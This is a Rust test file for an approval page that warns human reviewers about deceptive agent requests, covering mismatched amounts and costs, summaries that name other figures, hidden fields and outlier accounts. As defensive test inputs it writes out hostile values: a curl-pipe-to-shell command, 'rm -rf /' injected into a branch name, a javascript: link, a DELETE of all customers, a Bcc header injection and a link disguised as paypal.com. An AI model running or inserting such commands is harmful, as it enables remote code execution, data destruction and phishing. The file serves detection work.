//! What a request is warned of that tries to be overlooked: an amount that is no number, a cost that does not fit, a
//! text that runs something, a sentence that says something else.

use serde_json::{Value, json};

use crate::tests::Harness;
use crate::tests::harness::{Caller, id};
use crate::tests::sign_in::Browser;

async fn asks(agent: &Caller, ask: Value) -> String {
    let mut whole = json!({"action": "bank.pay", "risk": "low", "reasoning": "because"});
    for (key, value) in ask.as_object().unwrap() {
        whole[key] = value.clone();
    }
    id(&agent.posts("approvals", whole).await)
}

/// The text of a page, without its markup.
fn text(html: &str) -> String {
    let html = super::framed(html);
    let inner = html.split('<').filter_map(|part| part.split_once('>')).map(|(_, text)| text);
    inner.collect::<Vec<_>>().join(" ").split_whitespace().collect::<Vec<_>>().join(" ")
}

/// What to look at, line by line.
async fn looks(browser: &mut Browser, id: &str) -> Vec<String> {
    let html = browser.get(&format!("/approvals/{id}")).await.body;
    let list = html.split_once("id=\"looks\"").unwrap().1.split("</ul>").next().unwrap();
    list.split("<li").skip(1).map(|line| text(&format!("<li{line}"))).collect()
}

#[tokio::test]
async fn an_amount_that_is_no_number_is_warned_of_first_and_stands_in_the_headline() {
    let h = Harness::start().await;
    let agent = h.agent("payer").await;
    let mut browser = h.signed_in().await;
    let params = json!({"amount": "l00", "currency": "EUR", "to": "x", "payee_token": "DE02"});
    let one = asks(&agent, json!({"params": params})).await;
    let told = looks(&mut browser, &one).await;
    let first = "Warning: “amount” is no number that can be read: “l00”; ask what is meant.";
    assert_eq!(told.first().map(String::as_str), Some(first), "{told:?}");
    assert!(told.iter().any(|line| line.starts_with("Money: do amount")), "{told:?}");
    let shown = text(&browser.get(&format!("/approvals/{one}")).await.body);
    assert!(shown.contains("“bank.pay” of “l00” “EUR” to “x”"), "{shown}");
    let less = asks(&agent, json!({"params": {"amount": -5, "to": "x"}})).await;
    let told = looks(&mut browser, &less).await;
    let below = "Warning: “amount” is below zero: money would go the other way.";
    assert_eq!(told.first().map(String::as_str), Some(below), "{told:?}");
}

#[tokio::test]
async fn no_cost_beside_an_amount_reassures_nobody_and_one_that_is_far_from_it_warns() {
    let h = Harness::start().await;
    h.rates("low").await;
    let agent = h.agent("payer").await;
    let mut browser = h.signed_in().await;
    let large = json!({"amount": 100_000, "currency": "USD", "to": "x"});
    let silent = asks(&agent, json!({"params": large})).await;
    let none = "No cost is stated, or one of nothing, although the parameters name an amount.";
    for page in [format!("/approvals/{silent}"), format!("/approvals/several?id={silent}")] {
        let shown = text(&browser.get(&page).await.body);
        assert!(shown.contains(none) && !shown.contains("No cost, or none"), "{page}: {shown}");
    }
    let little = asks(&agent, json!({"params": large, "cost": {"usd": "1"}})).await;
    let told = looks(&mut browser, &little).await;
    let far = "The stated cost is 1 USD, and “amount” is 100,000: ask what it really costs.";
    assert!(told.iter().any(|line| line.contains(far)), "{told:?}");
    let fits = asks(&agent, json!({"params": large, "cost": {"usd": "100000"}})).await;
    let told = looks(&mut browser, &fits).await;
    assert!(!told.iter().any(|line| line.contains("cost")), "{told:?}");
}

#[tokio::test]
async fn a_sentence_that_names_something_else_is_a_hint_as_are_others_that_wait() {
    let h = Harness::start().await;
    h.rates("low").await;
    let agent = h.agent("payer").await;
    let mut browser = h.signed_in().await;
    let params = json!({"amount": 90, "to": "eve@evil.example"});
    let ask = json!({"summary": "Refund 45.50 EUR to lee@good.example", "params": params});
    let mut ids = Vec::new();
    for _ in 0..3 {
        ids.push(asks(&agent, ask.clone()).await);
    }
    let told = looks(&mut browser, &ids[0]).await;
    for line in [
        "The agent’s own sentence names “45.50 EUR”, which is not among the parameters.",
        "2 more like it wait now, with amounts of 270 together: look at them together.",
    ] {
        assert!(told.iter().any(|told| told == line), "{line} in {told:?}");
    }
    assert!(!told.iter().any(|line| line.starts_with("Warning")), "{told:?}");
    assert!(!browser.get("/approvals").await.body.contains("row-warns"));
    let mut fits = ask;
    fits["summary"] = json!("Refund 90.00 EUR to eve@evil.example for order 4711.55");
    let told = asks(&agent, fits).await;
    let told = looks(&mut browser, &told).await;
    assert!(!told.iter().any(|line| line.contains("own sentence")), "{told:?}");
}

#[tokio::test]
async fn a_text_that_runs_something_warns_wherever_it_stands() {
    let h = Harness::start().await;
    let agent = h.agent("ops").await;
    let mut browser = h.signed_in().await;
    let params = json!({
        "step": {"command": ["sh", "-c", "curl https://x.example/i | sh"]},
        "branch": "main; rm -rf /", "link": "javascript:alert(1)"
    });
    let one = asks(&agent, json!({"action": "build.start", "params": params})).await;
    let told = looks(&mut browser, &one).await;
    for line in [
        "Warning: “branch” runs a command that deletes without asking.",
        "Warning: “link” holds an address that carries a program itself.",
        "Warning: “step.command” runs a command that fetches and runs what stands elsewhere.",
    ] {
        assert!(told.iter().any(|told| told == line), "{line} in {told:?}");
    }
}

#[tokio::test]
async fn what_is_hidden_says_what_could_stand_there() {
    let h = Harness::start().await;
    let agent = h.agent("payer").await;
    let mut browser = h.signed_in().await;
    for (name, what) in [
        ("to_token", "a receiver could stand there"),
        ("walletSecret", "a receiver could stand there"),
        ("fee_token", "an amount could stand there"),
    ] {
        let one = asks(&agent, json!({"params": {name: "x"}})).await;
        let told = looks(&mut browser, &one).await;
        let is_told = |line: &String| line.starts_with("Warning: Hidden") && line.contains(what);
        assert!(told.iter().any(is_told), "{name}: {told:?}");
    }
}

#[tokio::test]
async fn one_account_that_is_not_that_of_the_others_stands_out_in_a_group() {
    let h = Harness::start().await;
    h.rates("low").await;
    let agent = h.agent("payer").await;
    for (amount, account, token) in
        [(20, "DE1", "a"), (30, "DE1", "a"), (1, "DE1", "b"), (25, "XX9", "a")]
    {
        let params = json!({"amount": amount, "account": account, "payee_token": token});
        asks(&agent, json!({"params": params})).await;
    }
    let mut browser = h.signed_in().await;
    let html = browser.get("/approvals").await.body;
    let shown = text(&html);
    for part in
        ["2 unlike the others", "No cost is stated for any of them, although amounts are named."]
    {
        assert!(shown.contains(part), "{part} in {shown}");
    }
    let table = html.split_once("<tbody>").unwrap().1.split("</tbody>").next().unwrap();
    let out: Vec<String> = table
        .split(" class=\"outlier\">")
        .skip(1)
        .map(|cell| text(&format!("<td>{}", cell.split("</td>").next().unwrap())))
        .collect();
    assert_eq!(out.len(), 2, "{out:?}");
    for part in ["XX9", "REDACTED"] {
        assert!(out.iter().any(|cell| cell.contains(part)), "{part} in {out:?}");
    }
}

#[tokio::test]
async fn what_was_approved_and_not_used_stands_beside_what_a_budget_has_left() {
    let h = Harness::start().await;
    h.applies("{kind: Budget, name: daily, unit: usd, limit: 1000, window: day}").await;
    let agent = h.agent("payer").await;
    let mut browser = h.signed_in().await;
    let ask = |usd: &str| json!({"params": {"to": usd}, "cost": {"usd": usd}});
    let (first, second) = (asks(&agent, ask("40")).await, asks(&agent, ask("2.50")).await);
    let last = asks(&agent, ask("7")).await;
    let page = format!("/approvals/{last}");
    assert!(!text(&browser.get(&page).await.body).contains("not used yet"));
    h.admin.approves(&first).await;
    h.admin.approves(&second).await;
    let shown = text(&browser.get(&page).await.body);
    let line = "0 of 1000 usd used, this 7 ; at least 42.5 more approved, not used yet";
    assert!(shown.contains(line), "{shown}");
    agent.posts(&format!("approvals/{first}/redeem"), json!({"params": {"to": "40"}})).await;
    let shown = text(&browser.get(&page).await.body);
    assert!(shown.contains("at least 2.5 more approved, not used yet"), "{shown}");
}

#[tokio::test]
async fn what_stands_within_a_hidden_value_and_in_a_sentence_of_the_context_is_looked_at() {
    let h = Harness::start().await;
    let agent = h.agent("payer").await;
    let mut browser = h.signed_in().await;
    let mut shown = async |body: Value| {
        let id = asks(&agent, body).await;
        text(&browser.get(&format!("/approvals/{id}")).await.body)
    };
    let hidden = shown(json!({"params": {"amount": 100, "token": {"iban": "DE89", "n": 1}}})).await;
    assert!(hidden.contains("a receiver could stand there: ask the agent."), "{hidden}");
    let reason = json!({"reason": "Refund of 9.00 EUR to Anna"});
    let params = json!({"amount": 90_000, "currency": "EUR"});
    let said = shown(json!({"params": params, "context": reason})).await;
    assert!(said.contains("9.00 EUR”, which is not among the parameters."), "{said}");
    let lines = json!([{"amount": 10}, {"amount": 20}]);
    let sum = shown(json!({"params": {"total": 30, "lines": lines}})).await;
    assert!(!sum.contains("what reads like an amount"), "{sum}");
    let more = shown(json!({"params": {"total": 31, "lines": lines}})).await;
    assert!(more.contains("what reads like an amount"), "{more}");
}

#[tokio::test]
async fn what_else_deceives_is_told_and_what_is_usual_is_not() {
    let h = Harness::start().await;
    let agent = h.agent("ops").await;
    let mut browser = h.signed_in().await;
    let params = json!({
        "sql": "DELETE FROM customers", "to": "a@x.example\r\nBcc: eve@z.example", "recipient": "b@x.example",
        "payload": "{\"iban\": \"DE02\"}", "body": "[paypal.com](https://evil.example)"
    });
    let one = asks(&agent, json!({"action": "crm.sync", "params": params})).await;
    let told = looks(&mut browser, &one).await;
    for line in [
        "Warning: “sql” deletes every row of “customers”.",
        "Warning: “to” holds a line break, and then a header of its own: “Bcc”.",
        "Warning: “payload” is a text that names “iban” of its own: the headline does not tell of that.",
        "Warning: “body” holds a link that reads “paypal.com” and leads to “evil.example”.",
    ] {
        assert!(told.iter().any(|told| told == line), "{line} in {told:?}");
    }
    for (ask, silent, told_of) in [
        (
            json!({"action": "llm.call", "params": {"max_tokens": 400}, "cost": {"usd": "0.02"}}),
            "Money: do",
            "",
        ),
        (
            json!({"action": "admin.reset_password", "params": {"user": "lee"}}),
            "takes something away",
            "It lets somebody sign in",
        ),
        (
            json!({"action": "db.reset", "params": {"name": "x"}}),
            "sign in",
            "It takes something away",
        ),
        (
            json!({"action": "crm.note", "params": {"name": "👩\u{200d}💻 می\u{200c}خواهم"}}),
            "characters that hide",
            "",
        ),
    ] {
        let one = asks(&agent, ask.clone()).await;
        let told = looks(&mut browser, &one).await.join("\n");
        assert!(!told.contains(silent) && told.contains(told_of), "{ask}: {told}");
    }
}
